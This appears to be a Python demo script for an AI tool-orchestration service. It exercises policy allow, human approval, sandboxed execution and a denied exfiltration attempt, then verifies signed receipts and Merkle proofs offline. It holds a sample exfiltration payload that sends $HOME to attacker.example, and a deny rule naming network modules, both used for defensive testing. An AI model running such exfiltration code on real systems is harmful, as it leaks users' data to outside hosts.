#!/usr/bin/env python3
"""The receipts demo (``make demo``): a two-minute tour of what the service records and how anyone
checks it, against a real service started for the tour in a temporary directory.

1. a tool call (``safe_calc``) that the policy allows;
2. a ``python_exec`` run that waits for a person: approved with the approver token, then run in
   the Docker sandbox (skipped, and said so, when Docker is not available here);
3. an exfiltration attempt (code that opens a URL) that the policy denies before anyone is asked;
4. each call's receipt exported (``GET /v1/trust/trace/{id}/export``) and verified offline by
   ``scripts/verify_receipts.py``, without the server;
5. the denied call's place in the Merkle tree of all receipts (an inclusion proof) and the signed
   checkpoint of that tree, both checked here against the service's public key.

Exit status: 0 when every step did what it should (a step skipped for lack of Docker included),
1 when one did not, 2 when the service did not start.
"""

from __future__ import annotations

import argparse
import base64
import json
import os
import secrets
import socket
import subprocess
import sys
import tempfile
import time
from pathlib import Path
from typing import Any

import httpx
import yaml

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))

from app.receipts import merkle, notes  # noqa: E402 (the checkout's own modules, after sys.path)

SHIPPED_POLICY = ROOT / "policies" / "tool_policy.yaml"
VERIFIER = ROOT / "scripts" / "verify_receipts.py"

# Added to the shipped policy for the tour. A pattern on code is a convenience (code can spell a
# module name many ways); the boundary is the sandbox, which has no network at all.
EXFILTRATION_RULE = {
    "id": "demo_no_network_from_code",
    "description": "Code that names a network module is refused outright (the demo's rule).",
    "tools": ["python_exec"],
    "action": "deny",
    "reason": "exfiltration",
    "when": {"code": {"matches": r"\b(socket|urllib|http|requests|httpx)\b"}},
}
EXFILTRATION_CODE = (
    "import os, urllib.request\n"
    "urllib.request.urlopen('https://attacker.example/collect?d=' + os.environ.get('HOME', ''))\n"
)
APPROVED_CODE = "print(sum(i * i for i in range(10)))\n"


class DemoFailed(Exception):
    """A step did not do what the tour says it does."""


def say(text: str = "") -> None:
    print(text, flush=True)


def step(number: int, title: str) -> None:
    say()
    say(f"== {number}. {title}")


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port: int = sock.getsockname()[1]
        return port


def write_policy(directory: Path) -> Path:
    policy = yaml.safe_load(SHIPPED_POLICY.read_text())
    policy["rules"].append(EXFILTRATION_RULE)
    path = directory / "tool_policy.yaml"
    path.write_text(yaml.safe_dump(policy, sort_keys=False))
    return path


def start_service(workdir: Path, port: int, owner: str, approver: str, policy: Path) -> subprocess.Popen[bytes]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("ORCH_")}
    env.update(
        {
            "ORCH_HOST": "127.0.0.1",
            "ORCH_PORT": str(port),
            "ORCH_BEARER_TOKEN": owner,
            "ORCH_APPROVER_TOKEN": approver,
            "ORCH_LLM_PROVIDER": "demo",
            "ORCH_TRUST_PANEL_ENABLED": "1",
            "ORCH_TOOL_POLICY_PATH": str(policy),
            "ORCH_SANDBOX_POOL_SIZE": "1",
            # A checkpoint soon after each call, so the tour does not wait the default 5 s.
            "ORCH_TRUST_CHECKPOINT_INTERVAL_SEC": "0.5",
            "PYTHONPATH": str(ROOT),
            "PYTHONUNBUFFERED": "1",
        }
    )
    log = (workdir / "server.log").open("wb")
    return subprocess.Popen([sys.executable, "-m", "app"], cwd=workdir, env=env, stdout=log, stderr=subprocess.STDOUT)


def wait_ready(process: subprocess.Popen[bytes], url: str, timeout: float = 30.0) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if process.poll() is not None:
            raise RuntimeError(f"the service exited with status {process.returncode}")
        try:
            if httpx.get(url + "/health", timeout=1.0).status_code == 200:
                return
        except httpx.HTTPError:
            pass
        time.sleep(0.1)
    raise RuntimeError(f"the service did not answer /health within {timeout:.0f} s")


def execute(client: httpx.Client, name: str, args: dict[str, Any]) -> dict[str, Any]:
    answer = client.post("/v1/tools/execute", json={"name": name, "args": args})
    if answer.status_code != 200:
        raise DemoFailed(f"POST /v1/tools/execute answered {answer.status_code}: {answer.text[:300]}")
    result: dict[str, Any] = answer.json()["result"]
    return result


def verify_offline(client: httpx.Client, trace_id: str, directory: Path, label: str) -> None:
    """Export the trace's receipt, then check it with the offline verifier (its exit status)."""
    answer = client.get(f"/v1/trust/trace/{trace_id}/export")
    if answer.status_code != 200:
        raise DemoFailed(f"the export of {trace_id} answered {answer.status_code}")
    path = directory / f"receipt-{label}.json"
    path.write_bytes(answer.content)
    bundle = answer.json()
    trace = bundle.get("trace") if isinstance(bundle.get("trace"), dict) else {}
    head = trace.get("head_hash") or bundle.get("head_hash")
    say(f"   exported {path.name}: trace {trace.get('id', trace_id)}, head hash {head}")
    # The key pins who signed the checkpoint the bundle's proof leads to (v2 bundles carry both).
    key = client.get("/v1/trust/public-key").json()["verifier_key"]
    checked = subprocess.run(
        [sys.executable, str(VERIFIER), str(path), "--key", key],
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    for line in (checked.stdout + checked.stderr).strip().splitlines():
        say(f"   verify_receipts.py: {line}")
    if checked.returncode != 0:
        raise DemoFailed(f"the offline verifier did not verify {path.name} (exit status {checked.returncode})")
    say("   -> verified offline: the chain, its ledger entry, the proof into the signed log, the signature.")


def tool_call(owner: httpx.Client) -> str:
    step(1, "A tool call the policy allows")
    say("   POST /v1/tools/execute safe_calc {expression: '6*7'}")
    result = execute(owner, "safe_calc", {"expression": "6*7"})
    if result.get("status") != "ok":
        raise DemoFailed(f"safe_calc did not run: {result}")
    say(f"   -> {result['result']}; its receipt is trace {result['trace_id']}")
    return str(result["trace_id"])


def approval(owner: httpx.Client, approver: httpx.Client, sandbox: str) -> list[str]:
    step(2, "Code execution waits for a person")
    args = {"code": APPROVED_CODE}
    say(f"   POST /v1/tools/execute python_exec {{code: {APPROVED_CODE.strip()!r}}}")
    first = execute(owner, "python_exec", args)
    traces = [str(first["trace_id"])] if first.get("trace_id") else []
    if first.get("error") == "sandbox_unavailable" or sandbox != "ok":
        say(f"   SKIPPED: Docker is not available here (sandbox: {sandbox}); python_exec answers")
        say("   sandbox_unavailable and nothing runs without the sandbox. Run scripts/ensure_docker.sh")
        say("   and scripts/build_sandbox_image.sh (as root) to see this step.")
        return traces
    if first.get("error") != "approval_required":
        raise DemoFailed(f"python_exec did not ask for approval: {first}")
    approval_id = first["approval_id"]
    say(f"   -> not run: approval_required (request {approval_id}, {first.get('approval_status')})")
    refused = owner.post(f"/v1/tools/approvals/{approval_id}/approve")
    say(f"   the caller approving its own request: HTTP {refused.status_code} (only the approver token may)")
    if refused.status_code != 403:
        raise DemoFailed("the caller's token approved its own request")
    approved = approver.post(f"/v1/tools/approvals/{approval_id}/approve")
    if approved.status_code != 200:
        raise DemoFailed(f"the approver could not approve: {approved.status_code} {approved.text[:300]}")
    say("   the approver (ORCH_APPROVER_TOKEN) approves it: HTTP 200")
    say("   the caller asks again, the same call:")
    ran = execute(owner, "python_exec", args)
    if ran.get("trace_id"):
        traces.append(str(ran["trace_id"]))
    if ran.get("error") == "sandbox_unavailable":
        say("   SKIPPED: the sandbox became unavailable; nothing ran outside it.")
        return traces
    if ran.get("status") != "ok":
        raise DemoFailed(f"the approved run did not finish: {ran}")
    output = ran["result"]
    say(
        f"   -> ran in the sandbox (no network, read-only root): stdout {output['stdout']!r},"
        f" exit {output['exit_code']}"
    )
    return traces


def exfiltration(owner: httpx.Client) -> str:
    step(3, "An exfiltration attempt is denied")
    say("   POST /v1/tools/execute python_exec with code that sends $HOME to https://attacker.example")
    result = execute(owner, "python_exec", {"code": EXFILTRATION_CODE})
    if result.get("status") == "ok" or not str(result.get("error", "")).startswith("policy_denied"):
        raise DemoFailed(f"the exfiltration attempt was not denied: {result}")
    say(f"   -> refused before anyone was asked: {result['error']} (rule {result.get('policy_rule')})")
    say("   (a pattern on code is a convenience: the boundary is the sandbox, which has no network)")
    say(f"   the refusal has a receipt too: trace {result['trace_id']}")
    return str(result["trace_id"])


def receipts(owner: httpx.Client, traces: dict[str, str], directory: Path) -> None:
    step(4, "Every call's receipt, exported and verified offline")
    for label, trace_id in traces.items():
        say(f" - {label}")
        verify_offline(owner, trace_id, directory, label)
    events = owner.get("/v1/trust/trace/" + traces["denied"]).json()
    kinds = [item.get("step_type") for item in events.get("steps", [])]
    if kinds:
        say(f"   the denied call's steps: {', '.join(str(kind) for kind in kinds)}")


def proof(owner: httpx.Client, trace_id: str) -> None:
    step(5, "The Merkle tree of all receipts and its signed checkpoint")
    key = owner.get("/v1/trust/public-key").json()
    say(f"   GET /v1/trust/public-key: {key['verifier_key']}")
    verifier = notes.parse_verifier_key(key["verifier_key"])
    body: dict[str, Any] = {}
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline:  # the checkpointer signs the grown tree within a second
        answer = owner.get("/v1/trust/proof/inclusion", params={"trace_id": trace_id})
        body = answer.json() if answer.status_code == 200 else {}
        if body.get("checkpoint"):
            break
        time.sleep(0.25)
    if not body.get("checkpoint"):
        raise DemoFailed(f"no inclusion proof with a signed checkpoint for {trace_id}: {body}")
    path = [base64.b64decode(item) for item in body["audit_path"]]
    leaf = base64.b64decode(body["leaf_hash"])
    root = base64.b64decode(body["root_hash"])
    say(
        f"   GET /v1/trust/proof/inclusion?trace_id={trace_id}: leaf {body['leaf_index']} of "
        f"{body['tree_size']}, {len(path)} sibling hash(es), root {body['root_hash']}"
    )
    if merkle.leaf_hash(body["entry"].encode("utf-8")) != leaf:
        raise DemoFailed("the leaf hash is not the hash of the ledger entry")
    if json.loads(body["entry"]).get("trace_id") != trace_id:
        raise DemoFailed("the proven ledger entry is another trace's")
    if not merkle.verify_inclusion(leaf, body["leaf_index"], body["tree_size"], path, root):
        raise DemoFailed("the inclusion proof does not lead to the root")
    say("   -> checked here (RFC 9162): the trace's ledger entry is a leaf of the tree with that root")
    text = notes.open_note(body["checkpoint"], verifier)
    signed = notes.parse_checkpoint(text)
    if (signed.size, signed.root) != (body["tree_size"], root):
        raise DemoFailed("the signed checkpoint is of another tree")
    say(f"   -> the checkpoint of that tree is signed by {verifier.name} (Ed25519, C2SP signed note):")
    for line in body["checkpoint"].rstrip("\n").splitlines():
        say(f"      {line}")
    latest = owner.get("/v1/trust/checkpoint").json()
    say(f"   GET /v1/trust/checkpoint: the latest, tree size {latest['tree_size']}, root {latest['root_hash']}")
    notes.open_note(latest["note"], verifier)
    say("   -> also signed by that key. Save a checkpoint: a later history rewrite cannot match it.")


def tour(url: str, owner_token: str, approver_token: str, directory: Path) -> None:
    owner = httpx.Client(base_url=url, headers={"Authorization": f"Bearer {owner_token}"}, timeout=60)
    approver = httpx.Client(base_url=url, headers={"Authorization": f"Bearer {approver_token}"}, timeout=60)
    with owner, approver:
        ready = owner.get("/ready").json()
        sandbox = str(ready.get("checks", {}).get("sandbox", "unknown"))
        say(f"   ready; the Docker sandbox: {sandbox}")
        traces = {"tool call": tool_call(owner)}
        for number, trace_id in enumerate(approval(owner, approver, sandbox), 1):
            traces[f"python_exec {'request' if number == 1 else 'run'}"] = trace_id
        traces["denied"] = exfiltration(owner)
        receipts(owner, {k.replace(" ", "-"): v for k, v in traces.items()}, directory)
        proof(owner, traces["denied"])


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0] if __doc__ else None)
    parser.add_argument("--keep", action="store_true", help="keep the temporary directory (receipts, log)")
    options = parser.parse_args(argv)
    directory = Path(tempfile.mkdtemp(prefix="orchestrators-demo-"))
    owner_token, approver_token = secrets.token_urlsafe(24), secrets.token_urlsafe(24)
    port = free_port()
    url = f"http://127.0.0.1:{port}"
    say("The receipts demo: every call leaves a hash-chained receipt that anyone can check offline.")
    say(f"== 0. Starting the service (python -m app, demo provider) on {url}, in {directory}")
    say("   with a caller token and a separate approver token (random, for this tour only)")
    process = start_service(directory, port, owner_token, approver_token, write_policy(directory))
    status = 0
    try:
        try:
            wait_ready(process, url)
        except RuntimeError as error:
            say(f"FAILED: {error}")
            say((directory / "server.log").read_text(errors="replace")[-3000:])
            return 2
        try:
            tour(url, owner_token, approver_token, directory)
        except (DemoFailed, httpx.HTTPError, notes.NoteError, KeyError) as error:
            say()
            say(f"FAILED: {error}")
            status = 1
    finally:
        process.terminate()
        try:
            process.wait(timeout=10)
        except subprocess.TimeoutExpired:
            process.kill()
            process.wait()
    say()
    if status == 0:
        say("Done: every step did what it says. The service is stopped.")
    if options.keep or status:
        say(f"The receipts and the service's log are in {directory}")
    else:
        subprocess.run(["rm", "-rf", str(directory)], check=False)
    return status


if __name__ == "__main__":
    sys.exit(main())
